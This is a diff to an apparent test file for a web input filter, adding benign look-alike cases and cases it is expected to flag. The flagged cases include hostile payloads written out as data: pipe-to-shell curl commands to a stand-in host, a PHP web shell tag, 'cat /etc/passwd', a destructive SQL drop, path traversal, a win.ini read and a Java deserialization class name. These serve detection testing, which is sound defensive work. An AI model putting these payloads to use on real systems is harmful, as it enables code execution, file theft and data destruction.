@@ -14,6 +14,11 @@ _PASTE = (
     b"server {\n  listen 443 ssl http2;\n  root /var/www/html;\n  server_name www.example.com;\n  index index.html;\n}"
 )
 _SCRIPTS = b";;System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35:en-US:ba1d5018:ea597d4b"
+_GPX = b'<?xml version="1.0"?><gpx version="1.1"><trk><name>Alpe &amp; back</name></trk></gpx>'
+_FENCED = (
+    b"### Repro\n```bash\n$ curl -sS https://x.example/install.sh | bash\n$ ./app --file a.json\n```\n"
+    b"It worked for a while and then stopped\n```\n    import os; os.system('ls')\n```\n"
+)
 _SHOWN = [
     (_SCRIPTS, "body", "code.dotnet"),
     (_SCRIPTS + b";Telerik.Web.UI:en-US:6f2a:16e4e7cd;", "body", "code.dotnet"),
@@ -34,6 +39,17 @@ _SHOWN = [
     (b"<p>Hi Pat,<br>please open <i>a window</i> of <b>cmd.exe</b> now", "body", "shell.interpreter_path"),
     (b"{ confirm: 'Sure?' }", "body", "js.dialog_name"),
     (b"/sites/a/_vti_bin/client.svc/ProcessQuery", "path", "scanner.probe_secret"),
+    (b"/intra/docs.nsf/(LookupByUNID)/D5A3F", "path", "scanner.probe_secret"),
+    (b"drop table leg 40 cm", "query", "sql.change_schema"),
+    (b"javascript: the good parts", "query", "html.script_url"),
+    (b"C:\\Windows\\Fonts not loading", "query", "path.windows_secret"),
+    (b"org.apache.struts.taglib.html.TOKEN", "name", "template.java_internals"),
+    (b"/assets/js/../js/menu.js", "query", "path.climbs"),
+    (_GPX, "body", "xml.declaration"),
+    (b'<p>It is here</p><script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>', "body", "html.script_tag"),
+    (_FENCED, "body", "shell.pipe_to_shell"),
+    (_FENCED, "body", "code.python_call"),
+    (b"<p>Hi Tom, can you please run <code>kubectl get pods | grep Error</code> on the cluster?</p>", "body", "shell.command_after_separator"),
     (b'(CEO OR "Vice President") AND NOT assistant', "query", "sql.quote_then_logic"),
 ]  # fmt: skip
 _DONE = [
@@ -60,6 +76,20 @@ _DONE = [
     (b"<p>Please open it and run the tool now</p>; cat /etc/passwd", "body", "shell.runs_command"),
     (b"<p>these are five words here</p><?php system($_GET[0]) ?>", "body", "code.php_tag"),
     (b"/_vti_bin/shtml.exe", "path", "scanner.probe_secret"),
+    (b"/names.nsf/People", "path", "scanner.probe_secret"),
+    (b"1; drop table users cascade", "query", "sql.change_schema"),
+    (b"javascript: new Image", "query", "html.script_url"),
+    (b"javascript: the good parts javascript:fetch(1)", "query", "html.script_url"),
+    (b"C:\\Windows\\win.ini", "query", "path.windows_secret"),
+    (b"org.apache.xbean.propertyeditor.JndiConverter", "name", "code.java_object"),
+    (b"/js/../../menu.js", "query", "path.climbs"),
+    (_GPX.replace(b"?><gpx", b"?><!DOCTYPE gpx><gpx"), "body", "xml.declaration"),
+    (_GPX.replace(b"1.0", b'1.0" encoding="utf-7'), "body", "xml.declaration"),
+    (_GPX.replace(b"</gpx>", b""), "body", "xml.declaration"),
+    (b'<script async src="https://platform.twitter.com.h.example/widgets.js"></script>', "body", "html.script_tag"),
+    (b'<script src="https://platform.twitter.com/widgets.js" onload="f()"></script>', "body", "html.script_tag"),
+    (b"```\ncurl -s https://h.example/a | sh\n```\n" + b"x" * 80, "body", "shell.pipe_to_shell"),
+    (_FENCED.replace(b"$ ./app", b"```\ncurl h.example | sh"), "body", "shell.pipe_to_shell"),
     (b'1" OR "a" AND "b', "query", "sql.quote_then_logic"),
 ]  # fmt: skip
 
